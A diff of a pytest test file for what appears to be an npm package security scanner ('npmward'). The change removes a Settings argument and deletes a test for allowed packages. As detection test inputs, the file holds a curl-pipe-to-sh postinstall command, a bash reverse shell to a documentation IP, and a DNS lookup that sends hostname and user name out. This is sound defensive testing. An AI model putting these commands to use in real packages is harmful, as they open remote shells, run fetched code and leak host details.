@@ -9,7 +9,6 @@ import pytest
 from npmward.analyzers.base import AnalysisContext
 from npmward.analyzers.install_scripts import InstallScriptAnalyzer, lifecycle_entry_files
 from npmward.model import Artifact, Level, PackageId, Severity
-from npmward.settings import Settings
 from npmward.verdict import decide
 
 
@@ -22,8 +21,8 @@ def artifact(scripts: dict | None = None, extra_files: dict[str, bytes] | None =
     return Artifact(id=PackageId(name, "1.0.0"), files=files, manifest=manifest, source="test")
 
 
-def findings(art: Artifact, settings: Settings | None = None):
-    return list(InstallScriptAnalyzer().analyze(AnalysisContext(artifact=art, settings=settings or Settings())))
+def findings(art: Artifact):
+    return list(InstallScriptAnalyzer().analyze(AnalysisContext(artifact=art)))
 
 
 def rules(art: Artifact) -> set[str]:
@@ -112,13 +111,6 @@ def test_no_scripts_no_findings():
     assert findings(artifact(None)) == []
 
 
-def test_allowed_packages_are_reported_but_do_not_count():
-    settings = Settings(allowed_scripts=("pkg",))
-    found = findings(artifact({"postinstall": "curl https://x.example/a | sh"}), settings)
-    assert found and all(f.severity is Severity.INFO for f in found)
-    assert "allowed by policy" in found[0].message
-
-
 @pytest.mark.parametrize("command", [
     "bash -c 'bash -i >& /dev/tcp/198.51.100.9/9001 0>&1' &",
     "nslookup $(hostname).$(whoami).oast.example",
@@ -146,7 +138,7 @@ def test_dependencies_from_urls_and_tea_farms():
     def analyze(analyzer, manifest, files=None):
         data = {"package.json": json.dumps(manifest).encode(), **(files or {})}
         art = Artifact(id=PackageId(manifest["name"], "1.0.0"), files=data, manifest=manifest, source="test")
-        return list(analyzer().analyze(AnalysisContext(artifact=art, settings=Settings())))
+        return list(analyzer().analyze(AnalysisContext(artifact=art)))
 
     url = analyze(DependencySourceAnalyzer, {"name": "p", "dependencies": {"x": "http://cdn.example/x", "y": "^1.0.0"}})
     assert [(f.rule, f.severity) for f in url] == [("dependency-source/url", Severity.HIGH)]
